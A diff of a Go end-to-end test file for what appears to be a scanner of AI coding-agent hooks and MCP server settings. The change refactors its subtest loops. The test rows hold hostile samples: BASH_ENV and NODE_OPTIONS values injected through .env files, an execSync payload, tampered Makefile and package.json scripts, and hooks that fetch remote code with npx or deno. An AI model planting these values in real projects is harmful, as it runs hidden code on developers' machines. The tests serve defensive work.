@@ -127,6 +127,26 @@ func rt9Twin(t *testing.T, r *gitRepo) {
 	r.run("pr", "--base", "main", "--fail-on", "suspicious").expect(t, 0)
 }
 
+// rt9RefusedRows runs rt9Refused on each row, a subtest each.
+func rt9RefusedRows(t *testing.T, bin, out string, rows []rt9Row) {
+	t.Helper()
+	for _, c := range rows {
+		t.Run(c.name, func(t *testing.T) {
+			rt9Refused(t, newRT9Repo(t, bin, out, c), c.want)
+		})
+	}
+}
+
+// rt9LapseRows runs rt9Lapses on each row, a subtest each.
+func rt9LapseRows(t *testing.T, bin, out string, rows []rt9Row) {
+	t.Helper()
+	for _, c := range rows {
+		t.Run(c.name, func(t *testing.T) {
+			rt9Lapses(t, newRT9Repo(t, bin, out, c), out, c)
+		})
+	}
+}
+
 func rt9Hook(cmd string, files map[string]string) map[string]string {
 	files[".claude/settings.json"] = pinHook(cmd)
 	return files
@@ -141,7 +161,7 @@ func TestRedTeam9LinksRefusedE2E(t *testing.T) {
 	bin := testBinary(t)
 	out := rt9Outside(t)
 	mk := map[string]string{"Makefile": "lint:\n\techo ok\n"}
-	for _, c := range []rt9Row{
+	rt9RefusedRows(t, bin, out, []rt9Row{
 		{name: "the hook script is a link out of the tree", files: rt9Hook("bash .claude/hooks/s.sh", map[string]string{}),
 			links: map[string]string{".claude/hooks/s.sh": "@OUT/s.sh"}, want: "a link to " + out + "/s.sh, which is outside the scanned folder"},
 		{name: "the hook script, run as a program, is a link out", files: rt9Hook("./tools/s.sh", map[string]string{}),
@@ -174,11 +194,7 @@ func TestRedTeam9LinksRefusedE2E(t *testing.T) {
 			links: map[string]string{"tools/s.sh": "t.sh", "tools/t.sh": "s.sh"}, want: "a chain of links that does not end"},
 		{name: "an in-tree link to nothing", files: rt9Hook("bash tools/s.sh", map[string]string{}),
 			links: map[string]string{"tools/s.sh": "none.sh"}, want: "which does not exist"},
-	} {
-		t.Run(c.name, func(t *testing.T) {
-			rt9Refused(t, newRT9Repo(t, bin, out, c), c.want)
-		})
-	}
+	})
 }
 
 // TestRedTeam9LinksLapseE2E: what a link points to is pinned with the
@@ -262,7 +278,7 @@ func TestRedTeam9FetchRefusedE2E(t *testing.T) {
 	needGitE2E(t)
 	bin := testBinary(t)
 	out := rt9Outside(t)
-	for _, c := range []rt9Row{
+	rt9RefusedRows(t, bin, out, []rt9Row{
 		{name: "hook npx -y", files: rt9Hook("npx -y db-mcp", map[string]string{}), want: "fetches db-mcp from the npm registry"},
 		{name: "hook npx, not a dependency", files: rt9Hook("npx prettier --write .", map[string]string{"package.json": "{}"}), want: "fetches prettier"},
 		{name: "hook npx of a tag", files: rt9Hook("npx -y db-mcp@latest", map[string]string{}), want: "fetches db-mcp@latest"},
@@ -286,11 +302,7 @@ func TestRedTeam9FetchRefusedE2E(t *testing.T) {
 		{name: "server docker run of a tag", files: rt9Server("docker", "run", "-i", "--rm", "-e", "TOKEN", "ghcr.io/x/mcp:1.2"), want: "runs the container image ghcr.io/x/mcp:1.2"},
 		{name: "hook deno run npm:", files: rt9Hook("deno run -A npm:db-mcp", map[string]string{}), want: "fetches npm:db-mcp"},
 		{name: "hook deno run of a URL", files: rt9Hook("deno run -A https://x.invalid/s.ts", map[string]string{}), want: "runs what https://x.invalid/s.ts serves"},
-	} {
-		t.Run(c.name, func(t *testing.T) {
-			rt9Refused(t, newRT9Repo(t, bin, out, c), c.want)
-		})
-	}
+	})
 }
 
 // TestRedTeam9FetchTwinsE2E: a package of an exact version, or the
@@ -338,7 +350,7 @@ func TestRedTeam9EnvFilesLapseE2E(t *testing.T) {
 		return rt9Hook(cmd, files)
 	}
 	evil := map[string]string{".env.ci": "BASH_ENV=./x.sh\n", "x.sh": rt9Evil + "\n"}
-	for _, c := range []rt9Row{
+	rt9LapseRows(t, bin, out, []rt9Row{
 		{name: "dotenv -e FILE", files: mk("dotenv -e .env.ci -- make lint", map[string]string{".env.ci": "A=1\n"}), change: evil},
 		{name: "dotenv -e FILE planted", files: mk("dotenv -e .env.ci -- make lint", map[string]string{}), change: evil},
 		{name: "dotenv with the default .env", files: mk("dotenv make lint", map[string]string{}), change: map[string]string{".env": "BASH_ENV=./x.sh\n", "x.sh": rt9Evil + "\n"}},
@@ -350,11 +362,7 @@ func TestRedTeam9EnvFilesLapseE2E(t *testing.T) {
 		{name: "set -a; . FILE", files: mk("set -a; . ./.env.ci; set +a; make lint", map[string]string{".env.ci": "A=1\n"}), change: evil},
 		{name: "node --env-file=FILE", files: rt9Hook("node --env-file=.env.ci tools/x.js", map[string]string{".env.ci": "A=1\n", "tools/x.js": "1\n"}), change: map[string]string{".env.ci": "NODE_OPTIONS=--require ./x.js\n", "x.js": "require('child_process').execSync('" + rt9Evil + "')\n"}},
 		{name: "a file the env file names", files: mk("dotenv -e .env.ci -- make lint", map[string]string{".env.ci": "BASH_ENV=./tools/init.sh\n", "tools/init.sh": "A=1\n"}), change: map[string]string{"tools/init.sh": rt9Evil + "\n"}},
-	} {
-		t.Run(c.name, func(t *testing.T) {
-			rt9Lapses(t, newRT9Repo(t, bin, out, c), out, c)
-		})
-	}
+	})
 	t.Run("twin: dotenv -e FILE, an unrelated file changes", func(t *testing.T) {
 		c := rt9Row{files: mk("dotenv -e .env.ci -- make lint", map[string]string{".env.ci": "A=1\n", "notes/todo.txt": "one\n"})}
 		rt9Twin(t, newRT9Repo(t, bin, out, c))
@@ -382,7 +390,7 @@ func TestRedTeam9TaskRunnersE2E(t *testing.T) {
 	}
 	evilMk := map[string]string{"Makefile": "lint:\n\t" + rt9Evil + "\n"}
 	evilPkg := map[string]string{"package.json": `{"scripts":{"y":"` + rt9Evil + `"}}`}
-	for _, c := range []rt9Row{
+	rt9LapseRows(t, bin, out, []rt9Row{
 		{name: "task -> make lint", files: task("      - make lint\n"), change: evilMk},
 		{name: "task -> npm run y", files: task("      - npm run y\n"), change: evilPkg},
 		{name: "task -> a task -> make lint", files: rt9Hook("task lint", map[string]string{"Taskfile.yml": "version: '3'\ntasks:\n  lint:\n    deps: [fmt]\n  fmt:\n    cmds:\n      - task: mk\n  mk: make lint\n", "Makefile": "lint:\n\techo ok\n"}), change: evilMk},
@@ -392,12 +400,8 @@ func TestRedTeam9TaskRunnersE2E(t *testing.T) {
 			change: map[string]string{".env.task": "BASH_ENV=./x.sh\n", "x.sh": rt9Evil + "\n"}},
 		{name: "pre-commit -> make lint", files: pc("make lint"), change: evilMk},
 		{name: "pre-commit -> npm run y", files: pc("npm run y"), change: evilPkg},
-	} {
-		t.Run(c.name, func(t *testing.T) {
-			rt9Lapses(t, newRT9Repo(t, bin, out, c), out, c)
-		})
-	}
-	for _, c := range []rt9Row{
+	})
+	rt9RefusedRows(t, bin, out, []rt9Row{
 		{name: "task -> pytest", files: task("      - pytest -q\n"), want: "`pytest -q`, a test runner"},
 		{name: "task -> npx -y", files: task("      - npx -y db-mcp\n"), want: "fetches db-mcp"},
 		{name: "task -> a templated program", files: task("      - '{{.TOOL}} lint'\n"), want: "a program named by a template"},
@@ -407,11 +411,7 @@ func TestRedTeam9TaskRunnersE2E(t *testing.T) {
 		{name: "just with no justfile in the project", files: rt9Hook("just lint", map[string]string{}), want: "looks for one in the folders above"},
 		{name: "npm run with no package.json in the project", files: rt9Hook("npm run lint", map[string]string{}), want: "looks for one in the folders above"},
 		{name: "pre-commit -> make test -> go test", files: rt9Hook("pre-commit run", map[string]string{".pre-commit-config.yaml": "repos:\n- repo: local\n  hooks:\n  - id: t\n    name: t\n    entry: make test\n    language: system\n", "Makefile": "test:\n\tgo test ./...\n"}), want: "`go test ./...`"},
-	} {
-		t.Run(c.name, func(t *testing.T) {
-			rt9Refused(t, newRT9Repo(t, bin, out, c), c.want)
-		})
-	}
+	})
 	t.Run("twin: task lint, another task runs the tests", func(t *testing.T) {
 		c := rt9Row{files: rt9Hook("task lint", map[string]string{"Taskfile.yml": "version: '3'\ntasks:\n  lint:\n    cmds:\n      - make lint\n  test:\n    cmds:\n      - go test ./...\n", "Makefile": "lint:\n\techo ok\n", "notes/todo.txt": "one\n"})}
 		rt9Twin(t, newRT9Repo(t, bin, out, c))
